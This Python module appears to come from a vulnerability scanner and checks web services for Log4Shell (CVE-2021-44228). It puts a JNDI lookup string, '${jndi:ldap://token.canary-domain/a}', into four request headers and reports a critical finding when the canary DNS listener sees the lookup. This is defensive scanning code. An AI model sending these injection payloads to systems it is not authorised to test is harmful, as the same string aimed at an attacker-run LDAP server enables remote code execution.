"""Log4Shell-class out-of-band check: a unique JNDI canary in request headers, a DNS callback.

Each web service of the target gets one request whose ``User-Agent``,
``X-Api-Version``, ``Referer`` and ``X-Forwarded-For`` each carry
``${jndi:ldap://<token>.<canary domain>/a}`` with a token of its own. The check
then waits ``canary_wait`` seconds; a token the canary listener saw looked up is
a critical finding naming the header that triggered it. It runs only when a
canary listener is configured (``scan_canary_dns``).
"""

from __future__ import annotations

import asyncio
from dataclasses import dataclass

from bastion.core.types import Severity
from bastion.scan.canary import new_token
from bastion.scan.checks import web
from bastion.scan.checks.base import Check, Lookups, Probe, web_covers
from bastion.scan.domain import Evidence, Observation

HEADERS = ("User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For")


@dataclass(frozen=True)
class Planted:
    token: str
    port: int
    header: str
    payload: str
    url: str


@dataclass(frozen=True)
class Log4ShellResult:
    planted: tuple[Planted, ...]


def payload(token: str, domain: str) -> str:
    return "${jndi:ldap://" + f"{token}.{domain}/a" + "}"


async def run(probe: Probe) -> Log4ShellResult:
    planted = []
    domain = probe.config.canary_domain
    for port, tls in probe.web_ports():
        tokens = {header: new_token() for header in HEADERS}
        sent = {h: payload(t, domain) for h, t in tokens.items()}
        response = await web.get(probe, "log4shell", port, tls, "/", headers=sent)
        url = web.base_url(probe, port, tls) + "/"
        if response is not None:
            planted += [Planted(t, port, h, sent[h], url) for h, t in tokens.items()]
    if planted:
        await asyncio.sleep(probe.config.canary_wait)
    return Log4ShellResult(tuple(planted))


def observe(result: Log4ShellResult, probe: Probe, lookups: Lookups) -> list[Observation]:
    hits = lookups.canary_hits([p.token for p in result.planted])
    for planted in result.planted:
        if planted.token in hits:
            return [
                Observation(
                    check="log4shell",
                    detail="jndi-callback",
                    title="Server looked up a planted JNDI name (Log4Shell, CVE-2021-44228)",
                    severity=Severity.CRITICAL,
                    port=planted.port,
                    evidence=Evidence(
                        probe=f"GET {planted.url} with {planted.header}: {planted.payload}",
                        response=f"DNS lookup of {hits[planted.token][0]} reached the canary listener",
                    ),
                    remediation="log4shell",
                    params={"header": planted.header},
                    web=True,
                )
            ]
    return []


def _blocked(probe: Probe) -> str | None:
    return None if probe.config.canary_dns else "no canary listener configured (scan_canary_dns)"


CHECK = Check(
    name="log4shell",
    title="Log4Shell canary",
    run=run,
    observe=observe,
    covers=lambda result, probe: web_covers(result, probe) if result.planted else set(),
    blocked=_blocked,
)
